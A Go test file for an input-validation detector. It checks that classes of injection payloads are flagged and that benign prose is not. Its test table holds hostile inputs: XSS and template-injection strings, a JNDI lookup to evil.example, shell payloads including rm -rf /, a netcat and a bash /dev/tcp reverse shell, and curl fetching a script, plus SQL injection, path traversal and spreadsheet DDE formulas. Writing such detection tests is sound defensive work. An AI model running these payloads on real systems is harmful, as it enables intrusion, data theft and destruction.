package validate

import (
	"strings"
	"testing"
)

// TestDetectClasses checks one or more named payloads per class and the
// class each must be reported as.
func TestDetectClasses(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		in   string
		want Class
	}{
		{"script element", "<script>alert(1)</script>", Markup},
		{"nested script tag", "<scr<script>ipt>alert(1)</scr</script>ipt>", Markup},
		{"double percent encoded", "%253Cscript%253Ealert(1)%253C%252Fscript%253E", Markup},
		{"fullwidth", "＜ｓｃｒｉｐｔ＞alert(1)＜／ｓｃｒｉｐｔ＞", Markup},
		{"NUL inside tag name", "<scr\x00ipt>alert(1)</script>", Markup},
		{"entity encoded", "&lt;script&gt;alert(1)&lt;/script&gt;", Markup},
		{"event handler", "<img src=x onerror=alert(1)>", Markup},
		{"unclosed tag", "<svg onload=alert(1)", Markup},
		{"tab inside scheme", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", Markup},
		{"data URL", "<iframe src=\"data:text/html,<b>x</b>\"></iframe>", Markup},
		{"css expression", "<div style=\"width:expression(alert(1))\">", Markup},
		{"markdown link", "[x](javascript:alert(1))", Markup},
		{"bare javascript URL", "javascript:alert(document.cookie)", Markup},
		{"bare javascript URL, long name first", "javascript:" + strings.Repeat("a", 70) + "=alert(1)", Markup},
		{"js string breakout", "';alert(1)//", Markup},
		{"mutation in attribute", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", Markup},
		{"arithmetic", "{{7*7}}", Template},
		{"dollar arithmetic", "${7*7}", Template},
		{"hash arithmetic", "#{7*7}", Template},
		{"thymeleaf selection", "*{7*7}", Template},
		{"razor", "@(7*7)", Template},
		{"erb", "<%= 7*7 %>", Template},
		{"method call", "{{config.items()}}", Template},
		{"dunder access", "{{''.__class__}}", Template},
		{"jndi", "${jndi:ldap://evil.example/a}", Template},
		{"obfuscated jndi", "${${lower:j}ndi:ldap://x/a}", Template},
		{"import directive", "{% import os %}", Template},
		{"velocity", "#set($x = 7*7)", Template},
		{"freemarker", "<#assign ex=\"x\"?new()>", Template},
		{"header after CRLF", "x\r\nSet-Cookie: a=b", CRLF},
		{"encoded header", "%0d%0aContent-Length: 0", CRLF},
		{"forged log record", "ok\n2026-01-01 INFO admin login", CRLF},
		{"syslog line", "ok\nJan  1 00:00:01 host sshd[1]: Accepted", CRLF},
		{"status line", "x\r\nHTTP/1.1 200 OK", CRLF},
		{"raw CSI", "\x1b[31mred", TerminalEscape},
		{"OSC title", "\x1b]0;title\x07", TerminalEscape},
		{"escaped CSI", `\033[2J`, TerminalEscape},
		{"rm after separator", "; rm -rf /", Shell},
		{"substitution", "$(whoami)", Shell},
		{"backticks after a word", "a`id`b", Shell},
		{"netcat", "| nc 10.0.0.1 4444 -e /bin/sh", Shell},
		{"curl", "&& curl http://evil.example/x.sh", Shell},
		{"IFS", ";cat$IFS/etc/passwd", Shell},
		{"reverse shell", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", Shell},
		{"quote splitting", ";w'h'o'am'i", Shell},
		{"tautology", "' OR 1=1 --", SQL},
		{"quoted tautology", "' OR '1'='1", SQL},
		{"comment truncation", "admin'--", SQL},
		{"union select", "1 UNION SELECT username, password FROM users", SQL},
		{"comment-split keywords", "' UN/**/ION SE/**/LECT password FROM users --", SQL},
		{"stacked drop", "'; DROP TABLE users; --", SQL},
		{"time delay", "'; WAITFOR DELAY '0:0:5' --", SQL},
		{"traversal", "../../etc/passwd", PathTraversal},
		{"encoded traversal", "..%2f..%2f..%2fetc%2fpasswd", PathTraversal},
		{"overlong traversal", "..%c0%af..%c0%afetc%c0%afpasswd", PathTraversal},
		{"filter bypass", "....//....//etc/passwd", PathTraversal},
		{"windows traversal", `..\..\..\windows\win.ini`, PathTraversal},
		{"hyperlink", "=HYPERLINK(\"http://evil.example\",\"x\")", Formula},
		{"dde", "=cmd|' /C calc'!A0", Formula},
		{"at sum", "@SUM(1+1)*cmd|' /C calc'!A0", Formula},
		{"leading tab", "\t=HYPERLINK(\"x\")", Formula},
		{"directive with form feeds", "{%\fdebug\f%}", Template},
		{"padded formula", "=" + strings.Repeat(" ", 40) + "HYPERLINK(\"x\")", Formula},
		{"signs before a function", "=" + strings.Repeat("+-", 20) + "HYPERLINK(\"x\")", Formula},
		{"RLO", "invoice\u202egnp.exe", Unicode},
		{"zero-width run", "a\u200b\u200bb", Unicode},
		{"combining flood", "Z" + strings.Repeat("\u0301", 12), Unicode},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ds := Detect(tt.in)
			if !hasClass(ds, tt.want) {
				t.Errorf("Detect(%q) = %v, want a %s detection", tt.in, ds, tt.want)
			}
		})
	}
}

// TestDetectProse lists prose from the issue and close calls around each
// rule; none may produce any detection.
func TestDetectProse(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		"my data: lost",
		"on=off",
		"I love <3 you",
		"Monday = worst day",
		"javascript: the good parts is my favourite book",
		"javascript:どうしてこんなに難しいのでしょうかずっと考えているけれど分かりません",
		"learned about onclick handlers today",
		"the <b> tag",
		"**bold** and a [link](https://example.com) in Markdown",
		"I ran `ls -la` and it printed nothing",
		"Dear {{name}}, your total is ${price}.",
		"{{ user.name | upper }} and {{#each items}}",
		"Mood: ok\r\nEnergy: low\r\n- gym\r\n- sleep",
		"First paragraph.\n\nSecond paragraph.",
		"2026-01-05\nFelt better today.",
		"+1 to that",
		"- buy milk",
		"@john thanks!",
		"=) =D =P",
		"2+2=4",
		"it costs $5",
		"email me at jane.doe@example.com",
		"I said 'no' -- and then yes",
		"We ate at 7 or 8",
		"Tom & Jerry; salt & pepper",
		"I'm tired; cat videos help",
		"wait... what?",
		"cd .. and try again",
		"C:\\Users\\me\\Desktop",
		"| id | name |",
		"🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F England",
		"👨\u200d👩\u200d👧 family",
	} {
		if ds := Detect(in); len(ds) != 0 {
			t.Errorf("Detect(%q) = %v, want nothing", in, ds)
		}
	}
}

// TestDetectionShape checks invariants on every attack in the corpus: at
// most one detection per class, confidence in (0, 1], a non-empty reason
// that does not contain the payload, strongest first.
func TestDetectionShape(t *testing.T) {
	t.Parallel()
	for _, e := range readCorpus(t, "attacks.txt") {
		ds := Detect(e.text)
		seen := map[Class]bool{}
		for i, d := range ds {
			if seen[d.Class] {
				t.Errorf("line %d: class %s reported twice", e.line, d.Class)
			}
			seen[d.Class] = true
			if classIndex(d.Class) < 0 {
				t.Errorf("line %d: unknown class %q", e.line, d.Class)
			}
			if d.Confidence <= 0 || d.Confidence > 1 {
				t.Errorf("line %d: confidence %v out of (0,1]", e.line, d.Confidence)
			}
			if d.Reason == "" || strings.ContainsAny(d.Reason, "<>{}%$`'\"\\;|=") || (len(e.text) >= 6 && strings.Contains(d.Reason, e.text)) {
				t.Errorf("line %d: reason %q is empty or looks like input", e.line, d.Reason)
			}
			if i > 0 && d.Confidence > ds[i-1].Confidence {
				t.Errorf("line %d: detections not sorted by confidence: %v", e.line, ds)
			}
		}
	}
}

func TestDecode(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, in, want string }{
		{"percent", "%3Cb%3e", "<b>"},
		{"double percent", "%253Cb", "<b"},
		{"percent u", "%u003Cb", "<b"},
		{"malformed percent kept", "100% sure %zz", "100% sure %zz"},
		{"overlong dot slash", "%c0%ae%c0%af", "./"},
		{"entities", "&lt;&#x3E;&#60;&quot;", "<><\""},
		{"js escapes", `\x3c\u003e\u{3c}\074`, "<><<"},
		{"line escapes", `a\r\nb`, "a\r\nb"},
		{"utf7", "+ADw-b+AD4-", "<b>"},
		{"utf7 ignores prose", "+1-2 and +ABC-", "+1-2 and +ABC-"},
		{"nfkc fullwidth", "＜ｂ＞", "<b>"},
		{"nul removed", "a\x00b", "ab"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := decode(tt.in); got != tt.want {
				t.Errorf("decode(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestStripTags(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"<scr<script>ipt>", "<script>"},
		{"a <b>bold</b> c", "a bold c"},
		{"I love <3 you", "I love <3 you"},
		{"<<<", "<<<"},
		{"<a <b>", "<a "},
	}
	for _, tt := range tests {
		if got := stripTags(tt.in); got != tt.want {
			t.Errorf("stripTags(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
